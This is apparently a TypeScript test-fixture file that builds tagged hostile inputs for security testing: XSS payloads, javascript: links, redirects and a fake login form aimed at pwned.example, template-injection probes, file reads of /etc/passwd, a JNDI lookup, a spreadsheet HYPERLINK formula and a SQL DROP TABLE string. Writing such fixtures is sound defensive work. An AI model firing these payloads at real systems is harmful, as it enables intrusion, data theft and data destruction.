/** Stands in every hostile text, so that it is known wherever it turns up. */
export const MARK = 'pwn-';

/** Makes a hostile text that bears a name, at most 80 characters with a name of 14. */
type Form = (name: string) => string;

/** Run by themselves where they are taken for HTML, and say by their name who did. */
export const RUNS: readonly Form[] = [
  (name) => `<script>__pwned='${name}'</script>`,
  (name) => `<img src=x.png onerror=__pwned='${name}'>`,
  (name) => `"><svg onload="__pwned='${name}'">`,
  (name) => `</textarea></title></style><script>__pwned='${name}'</script>`,
  (name) => `'><details open ontoggle="__pwned='${name}'">`,
  (name) => `<iframe srcdoc="<script>parent.__pwned='${name}'</script>">`,
];

/** Run, load or lead away once they are an attribute, a link or in the head. */
const LEADS: readonly Form[] = [
  (name) => `javascript:__pwned='${name}'//`,
  (name) => `" autofocus onfocus="__pwned='${name}'" x="`,
  (name) => `<a href="javascript:__pwned='${name}'">here</a>`,
  (name) => `[${name}](javascript:alert(1))`,
  (name) => `<base href="https://pwned.example/${name}/">`,
  (name) => `<meta http-equiv=refresh content="0;url=//pwned.example/${name}">`,
  (name) => `<style>*{background:url(//pwned.example/${name})}</style>`,
  (name) => `<link rel=stylesheet href=//pwned.example/${name}>`,
  (name) => `<form action=//pwned.example/${name}><button>Login`,
  (name) => `&lt;img src=x onerror=__pwned='${name}'&gt;`,
];

/** What 7 × 191 is: nobody's text says it. */
export const EVALUATED = '1337';

/** For template engines of pages, mails and shells, for Typst, and for whoever reads a text in its direction. */
const TEMPLATES: readonly Form[] = [
  (name) => `{{7*191}} ${name}`,
  (name) => `\${7*191} ${name}`,
  (name) => `<%= 7*191 %> ${name}`,
  (name) => `#{7*191} ${name}`,
  (name) => `$ sum_(i=1)^n ${name} $`,
  (name) => `#read("/etc/passwd") ${name}`,
  (name) => `#import "/etc/passwd": * // ${name}`,
  (name) => `#panic("${name}")`,
  (name) => `#eval("7*191") ${name}`,
  (name) => `\\u{41} \\input{/etc/passwd} ${name}`,
  (name) => `@${name} <${name}>`,
  (name) => `// ${name} /* x */`,
  (name) => `*${name}* _x_ \`y\` https://pwned.example/`,
  (name) => `= ${name}`,
  (name) => `\u202e${name}\u202c \u2066x\u2069 \u200fy`,
  (name) => `{{constructor.constructor('__pwned=1')()}} ${name}`,
  (name) => `{% include "/etc/passwd" %} ${name}`,
  (name) => `\${jndi:ldap://pwned.example/${name}} %s %n`,
  (name) => `=HYPERLINK("//pwned.example/${name}")`,
  (name) => `'; DROP TABLE users; -- ${name}`,
];

export interface Kind {
  name: string;
  forms: readonly Form[];
  /** As far as usernames go. */
  username: string;
  /** `mailable` is an address that mails reach; `worst` is as bad as the field takes. */
  email: { mailable: string; worst: string };
}

export const KINDS: readonly [Kind, ...Kind[]] = [
  {
    name: 'markup',
    forms: LEADS.flatMap((leads, at) => [...RUNS.slice(at, at + 1), leads]),
    username: 'pwn-onload@javascript+__proto__',
    email: {
      mailable: `pwn-'onload='__pwned=1@pwned.example`,
      worst: `'/onfocus='__pwned=7*191'pwn-email&lt@pwned.example`,
    },
  },
  {
    name: 'template text',
    forms: TEMPLATES,
    username: 'pwn-constructor@7-7+__proto__',
    email: {
      mailable: `{{7*191}}\${7*191}#pwn-@pwned.example`,
      worst: '#{7*191}$7*191$%7*191%*pwn-`@pwned.example',
    },
  },
];
